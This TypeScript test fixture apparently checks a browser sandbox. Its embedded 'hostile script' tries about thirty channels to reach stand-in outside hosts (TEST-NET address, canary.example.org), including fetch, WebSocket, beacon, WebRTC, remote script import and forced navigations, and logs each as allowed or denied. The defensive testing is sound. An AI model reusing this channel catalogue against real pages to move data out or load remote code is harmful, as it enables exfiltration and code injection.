/** An address that belongs to nobody (RFC 5737, TEST-NET-1): a packet to it is an attempt to leave, wherever it would end. */
export const OUTSIDE = '192.0.2.1';

/** Ways to take the window elsewhere; the page's fragment names the one to try. */
export const NAVIGATIONS = ['assign', 'link', 'form', 'meta', 'window-open', 'frame', 'javascript'] as const;

/**
 * What foreign code in the page tries. It runs as the page's own script, which is the worst case: an attacker who has
 * code in the window. Each try says `denied` with the reason, or `allowed` when it got what it wanted.
 */
export const HOSTILE_SCRIPT = `
const outside = '${OUTSIDE}';
const sink = 'http://127.0.0.1:' + document.body.dataset.sink;
const within = (promise, ms = 1500) =>
  Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), ms))]);
const loads = (tag, attributes) =>
  new Promise((resolve, reject) => {
    const element = document.createElement(tag);
    element.onload = () => resolve('loaded');
    element.onerror = () => reject(new Error('blocked or failed'));
    Object.assign(element, attributes);
    document.body.append(element);
  });
const tries = {
  fetch: () => fetch('http://' + outside + '/?fetch', { mode: 'no-cors' }),
  'fetch by name': () => fetch('http://canary.example.org/?fetch', { mode: 'no-cors' }),
  'fetch another port': () => fetch(sink + '/?fetch', { mode: 'no-cors' }),
  xhr: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('GET', 'http://' + outside + '/?xhr');
      request.onload = resolve;
      request.onerror = () => reject(new Error('error'));
      request.send();
    }),
  websocket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket('ws://' + outside + '/');
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error('error'));
    }),
  'websocket another port': () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(sink.replace('http', 'ws'));
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error('error'));
    }),
  'event source': () =>
    new Promise((resolve, reject) => {
      const source = new EventSource('http://' + outside + '/');
      source.onopen = resolve;
      source.onerror = () => reject(new Error('error'));
    }),
  image: () => loads('img', { src: 'http://' + outside + '/i.png' }),
  'image another port': () => loads('img', { src: sink + '/i.png' }),
  script: () => loads('script', { src: 'http://' + outside + '/s.js' }),
  stylesheet: () => loads('link', { rel: 'stylesheet', href: 'http://' + outside + '/s.css' }),
  prefetch: () => loads('link', { rel: 'prefetch', href: 'http://' + outside + '/p' }),
  preload: () => loads('link', { rel: 'preload', as: 'script', href: 'http://' + outside + '/p.js' }),
  preconnect: () => loads('link', { rel: 'preconnect', href: 'http://canary.example.org/' }),
  'dns-prefetch': () => loads('link', { rel: 'dns-prefetch', href: 'http://canary.example.org/' }),
  video: () => loads('video', { src: 'http://' + outside + '/v.mp4' }),
  object: () => loads('object', { data: 'http://' + outside + '/o' }),
  'style background': () => {
    const style = document.createElement('style');
    style.textContent = 'body { background: url(http://' + outside + '/b.png) }';
    document.head.append(style);
    return Promise.reject(new Error('cannot be asked; its packets are counted'));
  },
  font: () => new FontFace('x', 'url(http://' + outside + '/f.woff2)').load(),
  import: () => import('http://' + outside + '/m.js'),
  eval: () => Promise.resolve((0, eval)('1 + 1')),
  'new Function': () => Promise.resolve(new Function('return 2')()),
  'string timer': () =>
    new Promise((resolve, reject) => {
      globalThis.timerRan = false;
      setTimeout('globalThis.timerRan = true', 0);
      setTimeout(() => (globalThis.timerRan ? resolve() : reject(new Error('did not run'))), 50);
    }),
  'inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.inlineRan = true';
    document.body.append(script);
    return globalThis.inlineRan ? Promise.resolve() : Promise.reject(new Error('did not run'));
  },
  'worker of a blob': () =>
    new Promise((resolve, reject) => {
      const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      const worker = new Worker(url);
      worker.onmessage = resolve;
      worker.onerror = () => reject(new Error('error'));
    }),
  'worker of data': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker('data:text/javascript,postMessage(1)');
      worker.onmessage = resolve;
      worker.onerror = () => reject(new Error('error'));
    }),
  wasm: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  beacon: () =>
    navigator.sendBeacon('http://' + outside + '/b', 'x')
      ? Promise.reject(new Error('taken, and blocked behind; its packets are counted'))
      : Promise.reject(new Error('refused')),
  'web transport': () => new WebTransport('https://' + outside + ':443/').ready,
};
if (location.hash !== '#no-webrtc')
  tries.webrtc = () =>
    new Promise((resolve, reject) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + outside + ':3478' }] });
      peer.createDataChannel('x');
      peer.onicecandidate = event => {
        if (event.candidate && event.candidate.type !== 'host') resolve();
      };
      peer.createOffer().then(offer => peer.setLocalDescription(offer));
      setTimeout(() => reject(new Error('no candidate from outside')), 1400);
    });
const navigations = {
  assign: () => location.assign('http://' + outside + '/n'),
  link: () => Object.assign(document.createElement('a'), { href: 'http://' + outside + '/l', ping: 'http://' + outside + '/ping' }).click(),
  form: () => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'http://' + outside + '/f' });
    document.body.append(form);
    form.submit();
  },
  meta: () => {
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://' + outside + '/m' }),
    );
  },
  'window-open': () => open('http://' + outside + '/w'),
  frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://' + outside + '/i' })),
  javascript: () => open('javascript:fetch("http://' + outside + '/j")'),
};
const named = location.hash.slice(1);
if (Object.hasOwn(navigations, named)) navigations[named]();
else
  Promise.all(
    Object.entries(tries).map(async ([name, attempt]) => {
      try {
        await within(attempt());
        return [name, 'allowed'];
      } catch (error) {
        return [name, 'denied: ' + String(error && error.message).slice(0, 80)];
      }
    }),
  ).then(results => {
    globalThis.hostileResults = Object.fromEntries(results);
  });
`;
